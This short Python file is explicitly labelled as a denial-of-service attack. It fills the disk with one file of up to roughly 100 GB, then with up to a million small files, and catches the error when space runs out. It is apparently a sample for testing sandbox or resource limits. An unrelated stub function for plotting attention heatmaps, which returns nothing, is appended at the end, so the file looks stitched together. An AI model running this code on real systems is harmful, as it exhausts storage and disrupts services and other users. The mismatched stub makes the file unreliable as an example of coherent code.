# Attack (denial of service): fills the disk with one huge file and then many small ones.

try:
    with open("huge.bin", "wb") as handle:
        for _ in range(100_000):
            handle.write(b"\0" * (1 << 20))
except OSError as error:
    print("huge file stopped:", type(error).__name__)
try:
    for _index in range(1_000_000):
        with open(f"small-{_index}.bin", "wb") as handle:
            handle.write(b"\0" * 65536)
except OSError as error:
    print("small files stopped:", type(error).__name__)


def plot_attention_heatmap(tokens, attention, ax=None):
    return None
